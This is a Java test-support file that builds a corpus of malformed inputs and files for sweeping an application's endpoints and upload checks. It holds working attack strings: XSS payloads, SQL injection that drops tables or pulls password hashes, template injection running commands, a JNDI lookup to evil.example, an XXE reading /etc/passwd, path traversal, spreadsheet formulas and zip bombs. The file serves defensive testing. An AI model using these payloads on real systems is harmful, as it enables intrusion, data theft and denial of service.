package org.oneseal;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The bad-input corpus: malformed values by category (typed into any field of any form or API), malformed
 * path ids, field names and JSON bodies, and malformed files. Used by the sweep over every endpoint, by
 * the upload tests and by the stored-script browser test.
 */
public final class BadInputCorpus {

    /** Script and HTML injection; each marked payload would set {@code window.__xss} if it ever ran. */
    public static final List<String> SCRIPT = List.of(
            "<script>window.__xss=1</script>",
            "<script>alert(1)</script>",
            "\"><script>window.__xss=1</script>",
            "'><script>window.__xss=1</script>",
            "</textarea><script>window.__xss=1</script>",
            "</title><script>window.__xss=1</script>",
            "</script><script>window.__xss=1</script>",
            "<img src=x onerror=\"window.__xss=1\">",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=x OnErRoR=window.__xss=1>",
            "<svg onload=\"window.__xss=1\">",
            "<svg/onload=alert(1)>",
            "<svg><script>window.__xss=1</script></svg>",
            "<svg><animate onbegin=\"window.__xss=1\" attributeName=x dur=1s>",
            "<body onload=\"window.__xss=1\">",
            "<iframe src=\"javascript:window.__xss=1\"></iframe>",
            "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
            "<a href=\"javascript:window.__xss=1\" id=xss-link>点击</a>",
            "javascript:window.__xss=1",
            "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "\" onmouseover=\"window.__xss=1\" x=\"",
            "' onfocus='window.__xss=1' autofocus='",
            "\" autofocus onfocus=\"window.__xss=1",
            "<input autofocus onfocus=\"window.__xss=1\">",
            "<details open ontoggle=\"window.__xss=1\">",
            "<video><source onerror=\"window.__xss=1\"></video>",
            "<marquee onstart=\"window.__xss=1\">x</marquee>",
            "<object data=\"javascript:window.__xss=1\"></object>",
            "<embed src=\"javascript:window.__xss=1\">",
            "<form action=\"javascript:window.__xss=1\"><button>提交</button></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__xss=1\">",
            "<base href=\"https://evil.example/\">",
            "<div style=\"background:url(javascript:window.__xss=1)\">x</div>",
            "<style>body{display:none}</style>",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss=1\">",
            "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
            "<template><script>window.__xss=1</script></template>",
            "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
            "<div hx-get=\"/logout\" hx-trigger=\"load\">htmx</div>",
            "<a hx-post=\"/logout\" hx-trigger=\"load\">htmx</a>",
            "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
            "\\x3cscript\\x3ewindow.__xss=1\\x3c/script\\x3e",
            "&lt;script&gt;window.__xss=1&lt;/script&gt;",
            "&#60;script&#62;window.__xss=1&#60;/script&#62;",
            "%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E",
            "＜script＞window.__xss=1＜/script＞",
            "\\u003csvg onload=window.__xss=1\\u003e",
            "<!--",
            "]]><script>window.__xss=1</script>",
            "\";window.__xss=1;//",
            "';window.__xss=1;//",
            "{{constructor.constructor('window.__xss=1')()}}",
            "${7*7}",
            "#{7*7}",
            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
            "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
            "[[${7*7}]]",
            "[(${7*7})]",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>");

    /** SQL (and LIKE / regex) meta-characters. */
    public static final List<String> SQL = List.of(
            "' or '1'='1", "' OR 1=1--", "\"; drop table x; --", "1; DROP TABLE oneseal.account;--",
            "' UNION SELECT password_hash FROM oneseal.account--", "admin'--", "%' OR '%'='", "%", "_", "\\", "\\'",
            "'", "\"", ";", "--", "/* */", "1' AND pg_sleep(5) IS NULL--", "'; SELECT pg_sleep(5);--", "$$", "$1",
            "E'\\x00'", "' || (select version()) || '", "1 OR 1=1", "1 ORDER BY 100--", "x'::int", "%%", "[a-z]*",
            ".*", "(?i)(", "*)(uid=*))(|(uid=*");

    /** Overlong, empty and odd-whitespace strings. */
    public static final List<String> LENGTH = List.of(
            "", " ", "\t", "\n", "\r\n", "\u3000", " ".repeat(300), "a".repeat(41), "a".repeat(61), "a".repeat(101),
            "a".repeat(201), "a".repeat(301), "a".repeat(1001), "a".repeat(2001), "a".repeat(4001), "長".repeat(5000),
            "x".repeat(60_000), "😀".repeat(1000), "e\u0301".repeat(1000), "\u200b", "\u202egnp.exe", "\ufeff",
            "\ud800", "A\u0308\u0301\u0302\u0303\u0304", "ﷺ".repeat(100));

    /** Wrong types: what a number, boolean, enum or list field may receive instead. */
    public static final List<String> TYPES = List.of(
            "abc", "1.5", "-1", "0", "1e309", "NaN", "Infinity", "-0", "0x1F", "99999999999999999999",
            "9223372036854775808", "-9223372036854775809", "2147483648", "true", "false", "null", "undefined", "[]",
            "{}", "[object Object]", "１２３", "٣", "1,000", " 1 ", "+1", "1_000", "NOPE", "COUNTY ", "county",
            "WINDOW;", "0,1", "1e3", "1/0", "¥20", "20.005", "-20");

    /** Invalid identity card numbers, credit codes and phone numbers. */
    public static final List<String> IDENTIFIERS = List.of(
            "11010519491231002Y", "110105194912310021", "11010519490230002X", "11010519491331002X",
            "11010519491232002X", "1101051949123100", "1101051949123100211", "000000000000000000",
            "99010519491231002X", "11010521491231002X", "11010519491231002", "1101 0519 4912 3100 2X",
            "91350100M000100Y44", "91350100M000100I43", "91350100M000100Y4", "91350100M000100Y433",
            "O1350100M000100Y43", "00000000000000000X", "ZZZZZZZZZZZZZZZZZZ", "91350100-M000100Y43", "1234",
            "+86 138", "138-0000-0000x", "12345678901234567890", "000-00000000");

    /** Impossible or malformed dates. */
    public static final List<String> DATES = List.of(
            "2026-02-30", "2026-13-01", "2026-00-10", "2026-12-32", "2025-02-29", "0000-01-01", "9999-99-99",
            "-2026-01-01", "+292278994-08-17", "2026/01/01", "01-01-2026", "2026-1-1", "20260101",
            "2026-01-01T25:00", "today", "1970-01-01T00:00:00Z", "2026-02-29", "1899-12-31", "3000-01-01");

    /** Path traversal and other file-system or URL tricks. */
    public static final List<String> PATHS = List.of(
            "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc/passwd", "....//....//etc/passwd",
            "file:///etc/passwd", "\\\\server\\share\\x", "~/.ssh/id_rsa", "classpath:application.yml",
            "/proc/self/environ", "http://169.254.169.254/latest/meta-data/", "http://localhost:8080/actuator/env",
            "//evil.example/", "x\r\nSet-Cookie: a=b", "x\n2026-01-01 ERROR forged log line");

    /** Other injections: expression languages, format strings, spreadsheet formulas, NoSQL/prototype keys. */
    public static final List<String> OTHER = List.of(
            "${jndi:ldap://evil.example/a}", "#{T(java.lang.System).exit(0)}", "%s%s%s%n", "{0}{1}{2}",
            "%(x)s", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "-2+3", "=HYPERLINK(\"http://evil.example\")",
            "{\"$gt\":\"\"}", "__proto__", "constructor", "\u001b[31mred");

    /** Values with characters no person types; the NUL guard refuses each request carrying one. */
    public static final List<String> CONTROL = List.of("\u0000", "abc\u0000def", "\u0000.pdf");

    /** Path ids, already percent-encoded for the URL. */
    public static final List<String> IDS = List.of("abc", "-1", "0", "99999999999999999999", "1.5", "%2500",
            "..%2F..%2Fetc%2Fpasswd", "1e3", "0x10", "%20", "1%3BDROP%20TABLE%20x", "%27%20or%201%3D1", "%3Cscript%3E",
            "NaN", "9223372036854775808", "%EF%BC%91", "true", "null");

    /** Field names no form has: indexes that are not numbers, huge or negative, nested nonsense. */
    public static final List<String> FIELD_NAMES = List.of("[x].name", "[99999].name", "[-1].name", "[1e3].name",
            "[].name", "[0].", "[0]..x", "[0][0]");

    /** Malformed JSON bodies, whatever the endpoint expects. */
    public static final List<String> JSON = List.of(
            "{", "}", "[]", "{}", "null", "\"string\"", "123", "true", "", "   ", "{\"a\":", "{\"a\":1,}",
            "// comment\n{}", "{'a':'b'}", "{a:1}", "{\"a\":NaN}", "{\"a\":1e999999}", "{\"a\":-}",
            "{\"id\": {\"$gt\": 1}}", "{\"text\":\"a\",\"text\":\"b\"}", "{\"__proto__\":{\"admin\":true}}",
            "{\"text\":\"\\ud800\"}", "{\"text\":\"\\u0000\"}", "\ufeff{}", "{\"text\":\"a\"} trailing",
            "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
            "{\"text\": 12345678901234567890}", "{\"grant\": \"maybe\"}", "{\"regionId\": \"abc\", \"kind\": \"NOPE\"}",
            "[{\"description\": null}]", "[null]", "{\"text\": \"" + "a".repeat(500_000) + "\"}");

    /** Invalid UTF-8 (a lone continuation byte and an overlong encoding), as a JSON body. */
    public static final byte[] BROKEN_UTF8 = {'{', '"', 't', 'e', 'x', 't', '"', ':', '"', (byte) 0x80, (byte) 0xC0,
        (byte) 0xAF, '"', '}'};

    private BadInputCorpus() {
    }

    /** Every malformed value for a field, in a fixed order (the NUL-carrying ones are in {@link #CONTROL}). */
    public static List<String> values() {
        List<String> all = new ArrayList<>();
        for (List<String> category : categories().values()) {
            if (category != CONTROL) {
                all.addAll(category);
            }
        }
        return Collections.unmodifiableList(new ArrayList<>(new LinkedHashSet<>(all)));
    }

    public static Map<String, List<String>> categories() {
        Map<String, List<String>> c = new LinkedHashMap<>();
        c.put("script/HTML injection", SCRIPT);
        c.put("SQL meta-characters", SQL);
        c.put("overlong/empty", LENGTH);
        c.put("wrong types", TYPES);
        c.put("invalid ID/credit codes", IDENTIFIERS);
        c.put("impossible dates", DATES);
        c.put("path traversal", PATHS);
        c.put("other injections", OTHER);
        c.put("control characters", CONTROL);
        return c;
    }

    /** The number of distinct malformed inputs: values, ids, field names, JSON bodies and files. */
    public static int size() {
        Set<String> distinct = new LinkedHashSet<>();
        categories().values().forEach(distinct::addAll);
        IDS.forEach(id -> distinct.add("id:" + id));
        FIELD_NAMES.forEach(f -> distinct.add("field:" + f));
        JSON.forEach(j -> distinct.add("json:" + j));
        distinct.add("json:broken-utf8");
        files().forEach(f -> distinct.add("file:" + f.label()));
        TRAVERSAL_NAMES.forEach(n -> distinct.add("file name:" + n));
        return distinct.size();
    }

    /**
     * A malformed upload: what a person (or a script) sends as a material, and why it is refused: {@code empty},
     * {@code type} (not a PDF, PNG or JPEG at all), {@code mismatch} (one, but not what its name says) or
     * {@code size}.
     */
    public record BadFile(String label, String fileName, String declaredType, byte[] content, String refusedAs) {
        @Override
        public String toString() {
            return label;
        }
    }

    /** A real, tiny PDF. */
    public static byte[] pdf() {
        return "%PDF-1.4\n% material\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
    }

    public static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 'I', 'H',
        'D', 'R'};
    public static final byte[] JPEG = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 0x10, 'J', 'F', 'I', 'F'};

    private static List<BadFile> files;

    /** Files whose content, type or size make them unacceptable as a material: each must be refused by name. */
    public static synchronized List<BadFile> files() {
        if (files == null) {
            files = badFiles();
        }
        return files;
    }

    private static List<BadFile> badFiles() {
        byte[] html = "<!DOCTYPE html><html><body><script>window.__xss=1</script></body></html>"
                .getBytes(StandardCharsets.UTF_8);
        byte[] elf = {0x7F, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0};
        byte[] exe = {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4, 0};
        byte[] svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.__xss=1\"/>".getBytes(StandardCharsets.UTF_8);
        return List.of(
                new BadFile("empty file", "empty.pdf", "application/pdf", new byte[0], "empty"),
                new BadFile("zip bomb named .pdf", "bomb.pdf", "application/pdf", zipBomb(), "type"),
                new BadFile("zip bomb as application/zip", "bomb.zip", "application/zip", zipBomb(), "type"),
                new BadFile("gzip bomb named .pdf", "bomb2.pdf", "application/pdf", gzipBomb(), "type"),
                new BadFile("HTML named .pdf", "page.pdf", "application/pdf", html, "type"),
                new BadFile("HTML named .png", "page.png", "image/png", html, "type"),
                new BadFile("HTML as text/html", "page.html", "text/html", html, "type"),
                new BadFile("SVG with script named .png", "image.png", "image/png", svg, "type"),
                new BadFile("ELF executable named .pdf", "run.pdf", "application/pdf", elf, "type"),
                new BadFile("Windows executable named .jpg", "setup.jpg", "image/jpeg", exe, "type"),
                new BadFile("executable with double extension", "invoice.pdf.exe", "application/octet-stream", exe, "type"),
                new BadFile("PNG named .pdf", "scan.pdf", "application/pdf", PNG, "mismatch"),
                new BadFile("JPEG named .png", "photo.png", "image/png", JPEG, "mismatch"),
                new BadFile("PDF named .jpg", "form.jpg", "image/jpeg", pdf(), "mismatch"),
                new BadFile("PDF without an extension", "form", "application/pdf", pdf(), "mismatch"),
                new BadFile("GIF pretending to be JPEG", "anim.jpg", "image/jpeg",
                        "GIF89a<script>window.__xss=1</script>".getBytes(StandardCharsets.US_ASCII), "type"),
                new BadFile("text named .pdf", "notes.pdf", "application/pdf", "%PDX-1.4 not a pdf".getBytes(StandardCharsets.US_ASCII), "type"),
                new BadFile("over 10 MB", "big-scan.pdf", "application/pdf", oversizedPdf(), "size"));
    }

    /** Names that try to leave the upload's place; the content is a real PDF, so only the name is the problem. */
    public static final List<String> TRAVERSAL_NAMES = List.of("../../etc/passwd.pdf", "..\\..\\x.pdf",
            "/etc/passwd.pdf", "C:\\Windows\\System32\\drivers.pdf", "....//....//y.pdf", "a\u0000b.pdf",
            "~/.ssh/key.pdf", "\\\\server\\share\\z.pdf", "<img src=x onerror=window.__xss=1>.pdf");

    /** A 10 MB + 1 byte PDF: over the material limit, under the container's limits. */
    public static byte[] oversizedPdf() {
        byte[] big = new byte[10 * 1024 * 1024 + 1];
        byte[] head = pdf();
        System.arraycopy(head, 0, big, 0, head.length);
        return big;
    }

    private static byte[] zipBomb;

    /** A 40 KB zip whose one entry expands to 40 MB of zeros. */
    public static synchronized byte[] zipBomb() {
        if (zipBomb == null) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.setLevel(9);
                zip.putNextEntry(new ZipEntry("zeros.bin"));
                byte[] zeros = new byte[1024 * 1024];
                for (int i = 0; i < 40; i++) {
                    zip.write(zeros);
                }
                zip.closeEntry();
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            zipBomb = out.toByteArray();
        }
        return zipBomb.clone();
    }

    private static byte[] gzipBomb() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            byte[] zeros = new byte[1024 * 1024];
            for (int i = 0; i < 10; i++) {
                gzip.write(zeros);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
